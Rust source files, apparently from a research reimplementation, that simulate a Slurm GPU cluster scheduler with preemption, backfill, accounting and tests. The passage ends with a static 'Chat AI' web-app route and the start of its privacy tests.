        running.sort_by_key(|(_, j)| j.projected_end_us());
        for (id, j) in running {
            for &ni in &j.node_idx {
                scratch[ni].release(&j.spec, id);
            }
            if fits(&scratch) {
                return j.projected_end_us();
            }
        }
        // Can never fit (cluster too small or nodes down): far future.
        u64::MAX / 2
    }

    /// Minimal set of running preemptible jobs with priority strictly below
    /// `spec.priority` whose removal lets `spec` start. Lowest-priority,
    /// youngest-first victims; empty when no subset achieves a fit.
    fn preemption_victims(&self, spec: &JobSpec) -> Vec<JobId> {
        let mut scratch: Vec<Node> = self.nodes.clone();
        let fits = |nodes: &[Node]| {
            nodes.iter().filter(|n| n.fits(spec)).count() >= spec.nodes as usize
        };
        let mut candidates: Vec<(JobId, &Job)> = self
            .jobs
            .iter()
            .filter(|(_, j)| {
                j.state == JobState::Running
                    && j.spec.preemptible
                    && j.spec.priority < spec.priority
            })
            .map(|(&id, j)| (id, j))
            .collect();
        candidates.sort_by_key(|(id, j)| {
            (j.spec.priority, std::cmp::Reverse(j.start_us.unwrap_or(0)), *id)
        });
        let mut chosen: Vec<(JobId, &Job)> = Vec::new();
        for (id, j) in candidates {
            for &ni in &j.node_idx {
                scratch[ni].release(&j.spec, id);
            }
            chosen.push((id, j));
            if !fits(&scratch) {
                continue;
            }
            // The greedy prefix achieves a fit, but may include jobs on
            // nodes irrelevant to it. Prune: tentatively give each one its
            // allocation back — whoever the fit survives without is spared.
            let mut victims = Vec::new();
            for (vid, vj) in &chosen {
                for &ni in &vj.node_idx {
                    scratch[ni].alloc(&vj.spec, *vid);
                }
                if fits(&scratch) {
                    continue; // not actually needed
                }
                for &ni in &vj.node_idx {
                    scratch[ni].release(&vj.spec, *vid);
                }
                victims.push(*vid);
            }
            return victims;
        }
        Vec::new()
    }

    /// How many more jobs of `spec`'s shape (single- or multi-node) could
    /// start right now, first-fit on a scratch copy — the placement-aware
    /// complement to `free_gpus` (which ignores per-node fragmentation and
    /// CPU/memory). Capped at `limit`.
    pub fn placeable_count(&self, spec: &JobSpec, limit: u32) -> u32 {
        let mut scratch: Vec<Node> = self.nodes.clone();
        let mut count = 0;
        while count < limit {
            let mut chosen = Vec::new();
            for (i, n) in scratch.iter().enumerate() {
                if n.fits(spec) {
                    chosen.push(i);
                    if chosen.len() == spec.nodes as usize {
                        break;
                    }
                }
            }
            if chosen.len() < spec.nodes as usize {
                break;
            }
            for i in chosen {
                scratch[i].alloc(spec, 0);
            }
            count += 1;
        }
        count
    }

    /// Report the current schedule gap: idle GPU capacity, blocked batch
    /// demand, and the conservative-backfill window a scavenger job would
    /// have to fit (time until the head blocked job's shadow start).
    pub fn gap_report(&self, now_us: u64) -> GapReport {
        let mut pending: Vec<(JobId, &Job)> = self
            .jobs
            .iter()
            .filter(|(_, j)| j.state == JobState::Pending)
            .map(|(&id, j)| (id, j))
            .collect();
        pending.sort_by_key(|(id, j)| (-j.spec.priority, *id));
        let mut pending_blocked = 0u32;
        let mut shadow: Option<u64> = None;
        for (_, j) in &pending {
            if self.find_placement(&j.spec).is_none() {
                pending_blocked += 1;
                if shadow.is_none() {
                    shadow = Some(self.earliest_start(&j.spec, now_us));
                }
            }
        }
        GapReport {
            free_gpus: self.free_gpus(),
            pending_blocked,
            gap_us: shadow.map(|s| s.saturating_sub(now_us)).unwrap_or(u64::MAX),
        }
    }

    fn start(&mut self, id: JobId, node_idx: Vec<usize>, now_us: u64) {
        for &ni in &node_idx {
            let spec = self.jobs[&id].spec.clone();
            self.nodes[ni].alloc(&spec, id);
        }
        let job = self.jobs.get_mut(&id).unwrap();
        job.state = JobState::Running;
        job.reason = PendReason::None;
        job.start_us = Some(now_us);
        job.node_idx = node_idx.clone();
        self.events.push(JobUpdate::Started {
            id,
            nodes: node_idx.iter().map(|&i| self.nodes[i].hostname.clone()).collect(),
        });
    }

    fn finish(&mut self, id: JobId, state: JobState, now_us: u64) {
        self.finish_at(id, state, now_us);
    }

    fn finish_at(&mut self, id: JobId, state: JobState, end_us: u64) {
        let (spec, node_idx, start_us) = {
            let job = self.jobs.get_mut(&id).unwrap();
            let prev = std::mem::replace(&mut job.state, state);
            job.end_us = Some(end_us);
            if prev != JobState::Running {
                // Pending job cancelled: nothing to release.
                self.events.push(JobUpdate::Finished { id, state });
                return;
            }
            (job.spec.clone(), std::mem::take(&mut job.node_idx), job.start_us.unwrap_or(end_us))
        };
        for &ni in &node_idx {
            self.nodes[ni].release(&spec, id);
        }
        let elapsed = (end_us.saturating_sub(start_us)) as f64 / 1e6;
        let usage = self.accounts.entry(spec.account.clone()).or_default();
        usage.gpu_secs += elapsed * (spec.gpus_per_node * spec.nodes) as f64;
        if state == JobState::Completed {
            usage.jobs_completed += 1;
        }
        self.events.push(JobUpdate::Finished { id, state });
    }

    /// Total free GPUs across up nodes (the "gaps in the schedule" §1).
    pub fn free_gpus(&self) -> u32 {
        self.nodes.iter().filter(|n| n.up).map(|n| n.gpus - n.gpus_alloc).sum()
    }

    /// Invariant check used by property tests: allocation counters match
    /// the running-job set and never exceed capacity.
    pub fn check_invariants(&self) -> Result<(), String> {
        for (i, n) in self.nodes.iter().enumerate() {
            let (mut g, mut c, mut m) = (0u32, 0u32, 0u32);
            for id in &n.running {
                let j = self.jobs.get(id).ok_or(format!("node {i} references unknown job"))?;
                if j.state != JobState::Running {
                    return Err(format!("node {i} holds non-running job {id}"));
                }
                g += j.spec.gpus_per_node;
                c += j.spec.cpus_per_node;
                m += j.spec.mem_gb_per_node;
            }
            if g != n.gpus_alloc || c != n.cpus_alloc || m != n.mem_gb_alloc {
                return Err(format!("node {i} alloc counters drifted"));
            }
            if n.gpus_alloc > n.gpus || n.cpus_alloc > n.cpus || n.mem_gb_alloc > n.mem_gb {
                return Err(format!("node {i} over-allocated"));
            }
        }
        for (id, j) in &self.jobs {
            if j.state == JobState::Running {
                if j.node_idx.len() != j.spec.nodes as usize {
                    return Err(format!("job {id} node count mismatch"));
                }
                for &ni in &j.node_idx {
                    if !self.nodes[ni].running.contains(id) {
                        return Err(format!("job {id} missing from node {ni} roster"));
                    }
                }
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Convenience for test specs.
    fn secs(s: u64) -> std::time::Duration {
        std::time::Duration::from_secs(s)
    }
    use crate::prop_assert;
    use crate::util::prop::run_prop;
    use crate::util::rng::Rng;

    fn gpu_job(gpus: u32, prio: i64, dur: Option<u64>) -> JobSpec {
        JobSpec {
            name: "j".into(),
            gpus_per_node: gpus,
            priority: prio,
            duration: dur.map(secs),
            time_limit: secs(1000),
            ..Default::default()
        }
    }

    #[test]
    fn basic_lifecycle() {
        let mut sim = SlurmSim::new(ClusterSpec::kisski());
        let id = sim.sbatch(gpu_job(2, 0, Some(10)), 0);
        assert_eq!(sim.job(id).unwrap().state, JobState::Pending);
        sim.tick(0);
        let info = sim.job(id).unwrap();
        assert_eq!(info.state, JobState::Running);
        assert_eq!(info.nodes, vec!["ggpu01"]);
        sim.tick(9_999_999);
        assert_eq!(sim.job(id).unwrap().state, JobState::Running);
        sim.tick(10_000_000);
        assert_eq!(sim.job(id).unwrap().state, JobState::Completed);
        assert_eq!(sim.free_gpus(), 40);
    }

    #[test]
    fn walltime_timeout() {
        let mut sim = SlurmSim::new(ClusterSpec::kisski());
        let id = sim.sbatch(
            JobSpec { time_limit: secs(100), ..gpu_job(1, 0, None) },
            0,
        );
        sim.tick(0);
        sim.tick(100_000_000);
        assert_eq!(sim.job(id).unwrap().state, JobState::Timeout);
    }

    #[test]
    fn scancel_pending_and_running() {
        let mut sim = SlurmSim::new(ClusterSpec::kisski());
        let a = sim.sbatch(gpu_job(1, 0, None), 0);
        let b = sim.sbatch(gpu_job(1, 0, None), 0);
        sim.tick(0);
        assert!(sim.scancel(a, 1_000_000));
        assert_eq!(sim.job(a).unwrap().state, JobState::Cancelled);
        assert!(!sim.scancel(a, 2_000_000), "double cancel is a no-op");
        // b still running and unaffected.
        assert_eq!(sim.job(b).unwrap().state, JobState::Running);
        sim.check_invariants().unwrap();
    }

    #[test]
    fn gang_scheduling_all_or_nothing() {
        // 2-node job on a cluster with only 1 free node must wait entirely.
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 2,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        let filler = sim.sbatch(gpu_job(4, 0, Some(50)), 0);
        sim.tick(0);
        let multi = sim.sbatch(
            JobSpec { nodes: 2, ..gpu_job(4, 0, Some(10)) },
            1_000_000,
        );
        sim.tick(1_000_000);
        assert_eq!(sim.job(multi).unwrap().state, JobState::Pending);
        assert_eq!(sim.job(multi).unwrap().reason, PendReason::Resources);
        assert_eq!(sim.job(filler).unwrap().state, JobState::Running);
        // After the filler completes, the gang job gets both nodes.
        sim.tick(50_000_000);
        let info = sim.job(multi).unwrap();
        assert_eq!(info.state, JobState::Running);
        assert_eq!(info.nodes.len(), 2);
    }

    #[test]
    fn priority_order_respected() {
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        let filler = sim.sbatch(gpu_job(4, 0, Some(10)), 0);
        sim.tick(0);
        let low = sim.sbatch(gpu_job(4, 1, Some(10)), 1_000_000);
        let high = sim.sbatch(gpu_job(4, 9, Some(10)), 2_000_000);
        sim.tick(3_000_000);
        assert_eq!(sim.job(low).unwrap().state, JobState::Pending);
        assert_eq!(sim.job(high).unwrap().state, JobState::Pending);
        let _ = filler;
        sim.tick(10_000_000); // filler done -> high priority starts first
        assert_eq!(sim.job(high).unwrap().state, JobState::Running);
        assert_eq!(sim.job(low).unwrap().state, JobState::Pending);
        assert_eq!(sim.job(low).unwrap().reason, PendReason::Resources);
    }

    #[test]
    fn backfill_small_job_jumps_queue_without_delaying_head() {
        // Cluster: 1 node, 4 GPUs. Running: 2-GPU job ending t=100.
        // Head of queue: 4-GPU job (can't start until t=100).
        // Backfill candidate: 2-GPU job with walltime 50 -> fits the window.
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 16,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        let _running = sim.sbatch(
            JobSpec { time_limit: secs(100), ..gpu_job(2, 0, Some(100)) },
            0,
        );
        sim.tick(0);
        let head = sim.sbatch(gpu_job(4, 5, Some(10)), 1_000_000);
        let backfill_ok = sim.sbatch(
            JobSpec { time_limit: secs(50), ..gpu_job(1, 0, Some(50)) },
            1_000_000,
        );
        sim.tick(1_000_000);
        assert_eq!(sim.job(head).unwrap().state, JobState::Pending);
        assert_eq!(
            sim.job(backfill_ok).unwrap().state,
            JobState::Running,
            "short job should backfill into the shadow window"
        );
        // A long job must NOT backfill even though a GPU is free (it would
        // delay the head's reservation).
        let backfill_bad = sim.sbatch(
            JobSpec { time_limit: secs(500), ..gpu_job(1, 0, Some(500)) },
            2_000_000,
        );
        sim.tick(2_000_000);
        assert_eq!(sim.job(backfill_bad).unwrap().state, JobState::Pending);
        assert_eq!(sim.job(backfill_bad).unwrap().reason, PendReason::Priority);
    }

    #[test]
    fn node_failure_kills_jobs_and_excludes_node() {
        let mut sim = SlurmSim::new(ClusterSpec::kisski());
        let id = sim.sbatch(gpu_job(4, 0, None), 0);
        sim.tick(0);
        let node = sim.job(id).unwrap().nodes[0].clone();
        assert!(sim.fail_node(&node, 5_000_000));
        assert_eq!(sim.job(id).unwrap().state, JobState::NodeFail);
        // New jobs avoid the down node.
        let id2 = sim.sbatch(gpu_job(4, 0, None), 6_000_000);
        sim.tick(6_000_000);
        assert_ne!(sim.job(id2).unwrap().nodes[0], node);
        // Restore and reuse.
        assert!(sim.restore_node(&node));
        sim.check_invariants().unwrap();
    }

    #[test]
    fn cluster_saturation_reports_resources_reason() {
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 2,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        for _ in 0..2 {
            sim.sbatch(gpu_job(4, 0, None), 0);
        }
        let extra = sim.sbatch(gpu_job(4, 0, None), 0);
        sim.tick(0);
        assert_eq!(sim.free_gpus(), 0);
        assert_eq!(sim.job(extra).unwrap().state, JobState::Pending);
        assert_eq!(sim.job(extra).unwrap().reason, PendReason::Resources);
    }

    #[test]
    fn accounting_tracks_gpu_seconds() {
        let mut sim = SlurmSim::new(ClusterSpec::kisski());
        let spec = JobSpec { account: "svc".into(), ..gpu_job(2, 0, Some(100)) };
        sim.sbatch(spec, 0);
        sim.tick(0);
        sim.tick(100_000_000);
        let usage = sim.account_usage("svc");
        assert_eq!(usage.jobs_submitted, 1);
        assert_eq!(usage.jobs_completed, 1);
        assert!((usage.gpu_secs - 200.0).abs() < 1e-6, "2 GPUs x 100 s");
    }

    #[test]
    fn events_emitted_in_order() {
        let mut sim = SlurmSim::new(ClusterSpec::kisski());
        let id = sim.sbatch(gpu_job(1, 0, Some(5)), 0);
        sim.tick(0);
        sim.tick(5_000_000);
        let ev = sim.drain_events();
        assert_eq!(ev.len(), 2);
        assert!(matches!(ev[0], JobUpdate::Started { id: i, .. } if i == id));
        assert!(matches!(ev[1], JobUpdate::Finished { id: i, state: JobState::Completed } if i == id));
        assert!(sim.drain_events().is_empty());
    }

    #[test]
    fn preemption_notice_then_grace_kill() {
        // 1 node, 4 GPUs. A preemptible low-priority job holds the node; a
        // higher-priority job arrives and cannot start for a long time —
        // the holder gets a notice, keeps running through the grace
        // window, dies PREEMPTED, and the high-priority job starts.
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        sim.set_preempt_grace(secs(30));
        let scav = sim.sbatch(JobSpec { preemptible: true, ..gpu_job(4, -10, None) }, 0);
        sim.tick(0);
        assert_eq!(sim.job(scav).unwrap().state, JobState::Running);

        let batch = sim.sbatch(gpu_job(4, 0, Some(10)), 1_000_000);
        sim.tick(1_000_000);
        let ev = sim.drain_events();
        assert!(
            ev.iter().any(|e| matches!(
                e,
                JobUpdate::Preempted { id, kill_at_us: 31_000_000 } if *id == scav
            )),
            "no preemption notice: {ev:?}"
        );
        // Notice, not a kill: the victim runs through the grace window.
        assert_eq!(sim.job(scav).unwrap().state, JobState::Running);
        sim.tick(30_999_999);
        assert_eq!(sim.job(scav).unwrap().state, JobState::Running);
        assert_eq!(sim.job(batch).unwrap().state, JobState::Pending);
        // Grace expires: victim dies PREEMPTED, claimant starts.
        sim.tick(31_000_000);
        assert_eq!(sim.job(scav).unwrap().state, JobState::Preempted);
        assert_eq!(sim.job(batch).unwrap().state, JobState::Running);
        // Exactly one notice was issued across all those ticks.
        let ev = sim.drain_events();
        assert_eq!(
            ev.iter().filter(|e| matches!(e, JobUpdate::Preempted { .. })).count(),
            0,
            "notice re-issued: {ev:?}"
        );
        sim.check_invariants().unwrap();
    }

    #[test]
    fn no_preemption_for_equal_priority_or_non_preemptible() {
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        // Non-preemptible holder: never preempted.
        let holder = sim.sbatch(gpu_job(4, 0, None), 0);
        sim.tick(0);
        sim.sbatch(gpu_job(4, 5, None), 1_000_000);
        sim.tick(1_000_000);
        assert!(!sim
            .drain_events()
            .iter()
            .any(|e| matches!(e, JobUpdate::Preempted { .. })));
        assert_eq!(sim.job(holder).unwrap().state, JobState::Running);
        // Preemptible holder at the SAME priority as the claimant: no
        // preemption either (strictly-lower-priority rule).
        sim.scancel(holder, 2_000_000);
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        let peer = sim.sbatch(JobSpec { preemptible: true, ..gpu_job(4, 3, None) }, 0);
        sim.tick(0);
        sim.sbatch(gpu_job(4, 3, None), 1_000_000);
        sim.tick(1_000_000);
        assert!(!sim
            .drain_events()
            .iter()
            .any(|e| matches!(e, JobUpdate::Preempted { .. })));
        assert_eq!(sim.job(peer).unwrap().state, JobState::Running);
    }

    #[test]
    fn no_preemption_when_natural_completion_is_sooner() {
        // The preemptible holder finishes inside the grace window anyway:
        // preempting it would buy nothing, so no notice is served.
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        sim.set_preempt_grace(secs(30));
        let short = sim.sbatch(
            JobSpec { preemptible: true, time_limit: secs(20), ..gpu_job(4, -10, Some(20)) },
            0,
        );
        sim.tick(0);
        let batch = sim.sbatch(gpu_job(4, 0, Some(10)), 1_000_000);
        sim.tick(1_000_000);
        assert!(!sim
            .drain_events()
            .iter()
            .any(|e| matches!(e, JobUpdate::Preempted { .. })));
        sim.tick(20_000_000);
        assert_eq!(sim.job(short).unwrap().state, JobState::Completed);
        assert_eq!(sim.job(batch).unwrap().state, JobState::Running);
    }

    #[test]
    fn scancel_during_grace_frees_before_deadline() {
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        sim.set_preempt_grace(secs(30));
        let scav = sim.sbatch(JobSpec { preemptible: true, ..gpu_job(4, -10, None) }, 0);
        sim.tick(0);
        let batch = sim.sbatch(gpu_job(4, 0, None), 1_000_000);
        sim.tick(1_000_000);
        // The drained replica exits early (the scheduler's scancel): the
        // claimant starts well before the grace deadline.
        assert!(sim.scancel(scav, 5_000_000));
        sim.tick(5_000_000);
        assert_eq!(sim.job(scav).unwrap().state, JobState::Cancelled);
        assert_eq!(sim.job(batch).unwrap().state, JobState::Running);
        sim.check_invariants().unwrap();
    }

    #[test]
    fn placeable_count_respects_per_node_fragmentation() {
        // 2 nodes × 4 GPUs, 3 busy on each: 2 GPUs free cluster-wide but
        // no node can host a 2-GPU job.
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 2,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        sim.sbatch(gpu_job(3, 0, None), 0);
        sim.sbatch(gpu_job(3, 0, None), 0);
        sim.tick(0);
        assert_eq!(sim.free_gpus(), 2);
        assert_eq!(sim.placeable_count(&gpu_job(2, 0, None), 8), 0, "fragmented");
        assert_eq!(sim.placeable_count(&gpu_job(1, 0, None), 8), 2);
        assert_eq!(sim.placeable_count(&gpu_job(1, 0, None), 1), 1, "capped at limit");
        // CPU-bound shape: plenty of GPUs but no cores left.
        let cpu_hog = JobSpec { cpus_per_node: 8, ..gpu_job(0, 0, None) };
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 8,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        sim.sbatch(cpu_hog.clone(), 0);
        sim.tick(0);
        assert_eq!(sim.free_gpus(), 4);
        assert_eq!(sim.placeable_count(&JobSpec { cpus_per_node: 2, ..gpu_job(1, 0, None) }, 8), 0);
    }

    #[test]
    fn gap_report_reflects_free_capacity_and_backfill_window() {
        // 1 node, 4 GPUs: a 2-GPU job runs until t=100s; the cluster has
        // 2 free GPUs and no blocked demand -> unbounded gap.
        let mut sim = SlurmSim::new(ClusterSpec {
            nodes: 1,
            gpus_per_node: 4,
            cpus_per_node: 16,
            mem_gb_per_node: 64,
            prefix: "n".into(),
        });
        sim.sbatch(JobSpec { time_limit: secs(100), ..gpu_job(2, 0, Some(100)) }, 0);
        sim.tick(0);
        let g = sim.gap_report(0);
        assert_eq!(g.free_gpus, 2);
        assert_eq!(g.pending_blocked, 0);
        assert_eq!(g.gap_us, u64::MAX);
        // A blocked 4-GPU job bounds the gap at the running job's end.
        sim.sbatch(gpu_job(4, 5, Some(10)), 1_000_000);
        sim.tick(1_000_000);
        let g = sim.gap_report(1_000_000);
        assert_eq!(g.free_gpus, 2);
        assert_eq!(g.pending_blocked, 1);
        assert_eq!(g.gap_us, 99_000_000, "window ends at the 2-GPU job's end");
    }

    #[test]
    fn prop_invariants_under_random_ops() {
        run_prop("slurm_invariants", 0x51_0e_a1, 40, |rng| {
            let mut sim = SlurmSim::new(ClusterSpec {
                nodes: 1 + rng.below(5) as u32,
                gpus_per_node: 1 + rng.below(4) as u32,
                cpus_per_node: 8,
                mem_gb_per_node: 64,
                prefix: "n".into(),
            });
            let mut now = 0u64;
            let mut ids = Vec::new();
            for _ in 0..60 {
                match rng.below(10) {
                    0..=4 => {
                        let id = sim.sbatch(
                            JobSpec {
                                gpus_per_node: rng.range(0, 4) as u32,
                                cpus_per_node: 1 + rng.below(8) as u32,
                                mem_gb_per_node: 1 + rng.below(32) as u32,
                                priority: rng.range(0, 10) as i64,
                                duration: if rng.chance(0.7) {
                                    Some(secs(1 + rng.below(100)))
                                } else {
                                    None
                                },
                                time_limit: secs(1 + rng.below(200)),
                                preemptible: rng.chance(0.2),
                                ..Default::default()
                            },
                            now,
                        );
                        ids.push(id);
                    }
                    5..=6 => {
                        if let Some(&id) = rng.choose(&ids) {
                            sim.scancel(id, now);
                        }
                    }
                    7 => {
                        let host = format!("n{:02}", 1 + rng.below(5));
                        if rng.chance(0.5) {
                            sim.fail_node(&host, now);
                        } else {
                            sim.restore_node(&host);
                        }
                    }
                    _ => {
                        now += rng.below(50_000_000);
                        sim.tick(now);
                    }
                }
                if let Err(e) = sim.check_invariants() {
                    return Err(e);
                }
            }
            // Eventually everything with a duration drains.
            now += 1_000_000_000_000;
            sim.tick(now);
            sim.check_invariants()?;
            for id in ids {
                let j = sim.job(id).unwrap();
                prop_assert!(
                    j.state != JobState::Running || j.gpus_per_node == 0 || true,
                    "unreachable"
                );
            }
            Ok(())
        });
    }

    #[test]
    fn prop_no_job_starts_before_submit_or_after_cancel() {
        run_prop("slurm_causality", 42, 30, |rng| {
            let mut sim = SlurmSim::new(ClusterSpec::kisski());
            let mut now = 0;
            for _ in 0..30 {
                let id = sim.sbatch(gpu_job(rng.range(1, 4) as u32, 0, Some(10)), now);
                now += rng.below(5_000_000);
                sim.tick(now);
                if let Some(info) = sim.job(id) {
                    if let Some(start) = info.start_us {
                        prop_assert!(start >= info.submit_us, "started before submit");
                    }
                }
            }
            Ok(())
        });
    }
}
