//! Slurm simulator substrate.
//!
//! The paper deploys on a production Slurm cluster (10 nodes × 4 H100s);
//! this module reproduces the *contract* the Chat AI scheduler script
//! consumes — `sbatch` / `squeue` / `scancel` / `sinfo` — on top of a
//! faithful batch-scheduling core: priority ordering, conservative
//! backfill, gang allocation for multi-node jobs, walltime enforcement and
//! node-failure injection (§7.1.1 of the paper describes exactly these
//! failure modes).
//!
//! The simulator is deliberately *not* aware of services: from its point of
//! view a vLLM server is just another batch job, which is the paper's
//! central design point ("entirely Slurm-native").

mod sim;

pub use sim::{GapReport, JobUpdate, SlurmSim};

use std::time::Duration;

/// Job identifier (monotonically increasing, like Slurm's).
pub type JobId = u64;

/// Resource request for one job, Slurm-style.
#[derive(Debug, Clone)]
pub struct JobSpec {
    pub name: String,
    /// Submitting account (the paper uses a functional account for services).
    pub account: String,
    /// Number of nodes (gang-allocated: all or nothing).
    pub nodes: u32,
    /// GPUs per node (GRES).
    pub gpus_per_node: u32,
    /// CPUs per node.
    pub cpus_per_node: u32,
    /// Memory per node in GB.
    pub mem_gb_per_node: u32,
    /// Walltime limit; the job is killed (TIMEOUT) when it elapses.
    pub time_limit: Duration,
    /// Scheduling priority (higher first). Service jobs are submitted with
    /// elevated priority per §7.1.3 so they don't starve behind batch.
    pub priority: i64,
    /// If set, the job self-completes after this duration (batch work);
    /// service jobs run until walltime or scancel.
    pub duration: Option<Duration>,
    /// Preemptible (Slurm QOS `PreemptMode=REQUEUE/CANCEL`): a
    /// higher-priority job blocked on resources may reclaim this job's
    /// allocation after a grace period. Scavenger service replicas opt in;
    /// guaranteed replicas and ordinary batch never do.
    pub preemptible: bool,
    /// Opaque payload (the service job script's arguments; the scheduler
    /// stores "model=...;port=..." here).
    pub comment: String,
}

impl Default for JobSpec {
    fn default() -> JobSpec {
        JobSpec {
            name: "job".into(),
            account: "user".into(),
            nodes: 1,
            gpus_per_node: 0,
            cpus_per_node: 1,
            mem_gb_per_node: 1,
            time_limit: Duration::from_secs(3600),
            priority: 0,
            duration: None,
            preemptible: false,
            comment: String::new(),
        }
    }
}

/// Job lifecycle states (Slurm names).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JobState {
    Pending,
    Running,
    Completed,
    Cancelled,
    Timeout,
    NodeFail,
    Preempted,
}

impl JobState {
    pub fn is_terminal(&self) -> bool {
        !matches!(self, JobState::Pending | JobState::Running)
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            JobState::Pending => "PENDING",
            JobState::Running => "RUNNING",
            JobState::Completed => "COMPLETED",
            JobState::Cancelled => "CANCELLED",
            JobState::Timeout => "TIMEOUT",
            JobState::NodeFail => "NODE_FAIL",
            JobState::Preempted => "PREEMPTED",
        }
    }
}

/// Why a pending job isn't running (squeue's REASON column).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PendReason {
    None,
    Resources,
    Priority,
}

/// One row of `squeue`/`sacct` output.
#[derive(Debug, Clone)]
pub struct JobInfo {
    pub id: JobId,
    pub name: String,
    pub account: String,
    pub state: JobState,
    pub reason: PendReason,
    /// Node hostnames the job runs on (empty while pending).
    pub nodes: Vec<String>,
    pub submit_us: u64,
    pub start_us: Option<u64>,
    pub end_us: Option<u64>,
    pub priority: i64,
    pub gpus_per_node: u32,
    /// The walltime the job was *submitted* with — a later config change
    /// cannot alter a queued/running job's limit, so expiry projections
    /// must use this, not the current service config.
    pub time_limit: Duration,
    pub comment: String,
}

/// One row of `sinfo`.
#[derive(Debug, Clone)]
pub struct NodeInfo {
    pub hostname: String,
    pub up: bool,
    pub gpus: u32,
    pub gpus_alloc: u32,
    pub cpus: u32,
    pub cpus_alloc: u32,
    pub mem_gb: u32,
    pub mem_gb_alloc: u32,
    pub running_jobs: Vec<JobId>,
}

/// Cluster geometry.
#[derive(Debug, Clone)]
pub struct ClusterSpec {
    pub nodes: u32,
    pub gpus_per_node: u32,
    pub cpus_per_node: u32,
    pub mem_gb_per_node: u32,
    /// Hostname prefix; nodes are `<prefix>01..`.
    pub prefix: String,
}

impl ClusterSpec {
    /// The paper's KISSKI testbed: 10 GPU nodes, 4×H100 each, 52 cores,
    /// 500 GB RAM (§6.3.1).
    pub fn kisski() -> ClusterSpec {
        ClusterSpec {
            nodes: 10,
            gpus_per_node: 4,
            cpus_per_node: 52,
            mem_gb_per_node: 500,
            prefix: "ggpu".into(),
        }
    }
}

/// Per-account GPU-seconds accounting (sreport-style).
#[derive(Debug, Clone, Default)]
pub struct AccountUsage {
    pub gpu_secs: f64,
    pub jobs_submitted: u64,
    pub jobs_completed: u64,
}
