//! Chat AI web app (§5.3) — served as a gateway route.
//!
//! The paper's decisive design choice is that the app runs *entirely in the
//! browser*: conversations live in browser storage, never on the server
//! (§6.2). Reproduced here as a static-asset server whose API surface is
//! provably state-free — there is no endpoint that accepts or returns
//! conversation history, which the privacy tests assert.

use std::sync::Arc;

use anyhow::Result;

use crate::util::http::{Handler, Reply, Request, Response, Server};
use crate::util::json::Json;

/// The static SPA shell (stands in for the React/Vite bundle).
pub const INDEX_HTML: &str = r#"<!doctype html>
<html>
<head><meta charset="utf-8"><title>Chat AI</title></head>
<body>
<h1>Chat AI</h1>
<p>Conversations are stored exclusively in your browser (localStorage).
This server keeps no chat state: see /app/config for the model list, and
POST inference through the gateway.</p>
<script>
// All conversation state management happens client-side; the bundle only
// ever calls the inference routes. (Stand-in for the React/Vite app.)
const STORE_KEY = "chat-ai-conversations";
</script>
</body>
</html>
"#;

pub struct WebApp {
    pub server: Server,
}

impl WebApp {
    /// `models` is shown in the UI's model drop-down.
    pub fn start(models: Vec<String>) -> Result<WebApp> {
        let handler: Handler = Arc::new(move |req: &Request| -> Reply {
            match (req.method.as_str(), req.path.as_str()) {
                ("GET", "/") | ("GET", "/chat") => Reply::full(
                    Response::new(200)
                        .header("content-type", "text/html; charset=utf-8")
                        // Explicitly forbid intermediary caching of the app
                        // shell; there is nothing user-specific in it anyway.
                        .header("cache-control", "no-store")
                        .with_body(INDEX_HTML.as_bytes()),
                ),
                ("GET", "/app/config") => {
                    let list: Vec<Json> = models.iter().map(|m| Json::from(m.as_str())).collect();
                    Reply::full(Response::json(
                        200,
                        &Json::obj().set("models", list).set("storage", "browser-only"),
                    ))
                }
                ("GET", "/health") => {
                    Reply::full(Response::json(200, &Json::obj().set("status", "ok")))
                }
                // The privacy property, made structural: any conversation-
                // sounding endpoint simply does not exist.
                _ => Reply::full(Response::json(404, &Json::obj().set("error", "not found"))),
            }
        });
        Ok(WebApp { server: Server::start(handler)? })
    }

    pub fn url(&self) -> String {
        self.server.url()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::http;

    #[test]
    fn serves_spa_and_config() {
        let app = WebApp::start(vec!["tiny".into(), "mixtral-8x7b".into()]).unwrap();
        let r = http::get(&format!("{}/", app.url())).unwrap();
        assert_eq!(r.status, 200);
        assert!(r.body_str().contains("stored exclusively in your browser"));
        let c = http::get(&format!("{}/app/config", app.url())).unwrap();
        let j = c.json_body().unwrap();
        assert_eq!(j.at(&["models", "1"]).unwrap().as_str(), Some("mixtral-8x7b"));
        assert_eq!(j.str_or("storage", ""), "browser-only");
    }

    #[test]
    fn no_server_side_conversation_endpoints() {
